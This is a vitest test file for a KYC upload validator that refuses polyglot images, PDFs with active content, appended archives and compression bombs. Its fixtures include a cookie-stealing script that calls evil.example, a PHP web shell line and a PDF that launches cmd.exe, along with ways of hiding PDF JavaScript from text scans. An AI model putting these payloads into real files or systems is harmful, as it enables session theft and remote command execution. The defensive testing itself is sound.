import { readdirSync, readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openCore, type Core } from '../core';
import { base64, failure, makeCustomer, pdfBytes, tempDataDir } from '../kyc/test/fixtures';
import { contentProblem } from './content-check';
import { testVaultPassphrase } from '../test-support';

const fixture = (name: string) => readFileSync(join('tests/fixtures/kyc', name));
const jpeg = fixture('id-card-front.jpg');
const png = fixture('id-card-back.png');
const webp = fixture('selfie.webp');
const page = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
/** The smallest ZIP archive: an end-of-central-directory record alone. */
const emptyZip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);

/** A JPEG with a comment segment (FFFE) right after its start-of-image marker: where polyglot payloads hide. */
function jpegWithComment(comment: string): Buffer {
  const text = Buffer.from(comment, 'latin1');
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(text.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, text, jpeg.subarray(2)]);
}

/** A PDF written by hand as attackers write them: objects, a cross-reference table, a trailer. */
function handPdf(catalogExtra: string, extraObjects: string[] = []): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
    ...extraObjects,
  ];
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  body += offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

/** An object stream (PDF 1.5+) holding `object` Flate-compressed, so it is not in the file as text. */
function objectStream(object: string): string {
  const data = deflateSync(Buffer.from(`5 0 ${object}`, 'latin1'));
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

describe('a document is exactly one type, with nothing active in it', () => {
  it('accepts real files from real encoders (ImageMagick JPEG and PNG, cwebp, pdfkit compressed and not)', async () => {
    expect(contentProblem(jpeg, 'image/jpeg')).toBeNull();
    expect(contentProblem(png, 'image/png')).toBeNull();
    expect(contentProblem(webp, 'image/webp')).toBeNull();
    expect(contentProblem(fixture('proof-of-address.pdf'), 'application/pdf')).toBeNull();
    expect(contentProblem(await pdfBytes('Utility bill, 12 Rue de la Paix'), 'application/pdf')).toBeNull();
    expect(contentProblem(handPdf('/OpenAction [3 0 R /FitH null]'), 'application/pdf')).toBeNull();
    // JPEG encoders may pad after the end-of-image marker.
    expect(contentProblem(Buffer.concat([jpeg, Buffer.alloc(16)]), 'image/jpeg')).toBeNull();
  });

  it('refuses image and HTML polyglots, wherever the page sits', () => {
    expect(contentProblem(Buffer.concat([jpeg, Buffer.from(page)]), 'image/jpeg')).toMatch(/web page markup/);
    expect(contentProblem(jpegWithComment(page), 'image/jpeg')).toMatch(/web page markup/);
    expect(contentProblem(jpegWithComment('<svg onload=alert(1)>'), 'image/jpeg')).toMatch(/web page markup/);
    expect(contentProblem(Buffer.concat([png, Buffer.from('<?php system($_GET["c"]); ?>')]), 'image/png')).toMatch(
      /web page markup/,
    );
  });

  it('refuses a PDF header in front of a web page, and a PDF with a page after its end', () => {
    const headerThenPage = Buffer.from(`%PDF-1.4\n${page}\n%%EOF\n`, 'latin1');
    expect(contentProblem(headerThenPage, 'application/pdf')).toMatch(/web page markup/);
    const pdf = handPdf('');
    expect(contentProblem(Buffer.concat([pdf, Buffer.from('trailing bytes')]), 'application/pdf')).toMatch(
      /data after the end of the PDF/,
    );
  });

  it('refuses a second file behind an image: a ZIP, a PDF, or anything after its end', () => {
    expect(contentProblem(Buffer.concat([png, emptyZip]), 'image/png')).toMatch(/ZIP archive/);
    expect(contentProblem(Buffer.concat([jpeg, emptyZip]), 'image/jpeg')).toMatch(/ZIP archive/);
    expect(contentProblem(jpegWithComment('%PDF-1.4 1 0 obj'), 'image/jpeg')).toMatch(/holds a PDF/);
    expect(contentProblem(Buffer.concat([png, Buffer.from('x')]), 'image/png')).toMatch(/after the end of the image/);
    expect(contentProblem(Buffer.concat([webp, Buffer.from('xyz')]), 'image/webp')).toMatch(/after the end/);
    expect(contentProblem(Buffer.concat([jpeg, Buffer.from('\x01\x02')]), 'image/jpeg')).toMatch(/after the end/);
  });

  it('refuses PDFs that run JavaScript or launch programs, however the name is written or hidden', () => {
    const script = '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>';
    expect(contentProblem(handPdf(script), 'application/pdf')).toMatch(/active content \(\/JavaScript\)/);
    // Names may spell letters as #xx escapes.
    expect(contentProblem(handPdf('/OpenAction << /S /J#61vaScript /J#53 (x) >>'), 'application/pdf')).toMatch(
      /\/JavaScript/,
    );
    expect(contentProblem(handPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'application/pdf')).toMatch(/\/Launch/);
    expect(contentProblem(handPdf('/AA << /O 4 0 R >>'), 'application/pdf')).toMatch(/\/AA/);
    expect(contentProblem(handPdf('/Names << /EmbeddedFiles 4 0 R >>'), 'application/pdf')).toMatch(/\/EmbeddedFiles/);
    // The action's dictionary inside a compressed object stream is not in the file as text.
    const hidden = handPdf('/OpenAction 5 0 R', [objectStream('<< /S /JavaScript /JS (app.alert\\(1\\)) >>')]);
    expect(hidden.toString('latin1')).not.toContain('/JS');
    expect(contentProblem(hidden, 'application/pdf')).toMatch(/\/JavaScript/);
  });

  it('does not inflate a compression bomb to its end', () => {
    const bomb = handPdf('', [objectStream(`<< /Filler (${'0'.repeat(80 * 1024 * 1024)}) >>`)]);
    expect(bomb.length).toBeLessThan(200_000);
    expect(contentProblem(bomb, 'application/pdf')).toMatch(/too large to check/);
  });
});

describe('uploads of hostile files', () => {
  let dataDir: string;
  let core: Core;
  beforeAll(async () => {
    dataDir = tempDataDir();
    core = await openCore({ dataDir, migrationsFolder: 'drizzle', vaultPassphrase: testVaultPassphrase });
  });
  afterAll(async () => {
    await core.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  it('are refused with a message on the file field, and nothing is stored', async () => {
    const customer = await makeCustomer(core, 'polyglot@example.com');
    const files = () => readdirSync(join(dataDir, 'vault', 'files'), { recursive: true });
    const before = files();
    const cases = [
      [Buffer.concat([jpeg, Buffer.from(page)]), /web page markup.*Save it again as a plain JPEG image/],
      [handPdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), /PDF with active content/],
      [Buffer.concat([png, emptyZip]), /ZIP archive/],
    ] as const;
    for (const [bytes, message] of cases) {
      const error = await failure(core, 'documents.upload', {
        customerId: customer.id,
        slot: 'docFile1',
        fileName: 'passport.jpg',
        contentBase64: base64(bytes),
      });
      expect(error.code).toBe('VALIDATION');
      expect(error.fieldErrors?.contentBase64).toMatch(message);
    }
    expect(files()).toEqual(before);
    expect(core.storage.reader.$client.prepare('SELECT count(*) FROM documents').pluck().get()).toBe(0);
  });
});
